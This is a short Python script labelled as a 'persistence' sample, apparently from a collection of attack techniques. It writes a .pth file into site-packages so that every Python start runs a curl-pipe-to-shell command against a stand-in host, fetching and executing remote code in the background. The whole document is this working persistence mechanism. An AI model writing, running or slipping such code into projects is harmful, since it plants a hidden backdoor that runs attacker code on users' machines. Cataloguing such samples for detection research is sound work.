# family: persistence
# a .pth file in site-packages that runs code at every Python start
import site

for d in site.getsitepackages() + [site.getusersitepackages()]:
    try:
        with open(d + "/zz_init.pth", "w") as f:
            f.write("import os; os.system('curl -s http://pth.example.invalid/b | sh &')\n")
        break
    except OSError:
        continue
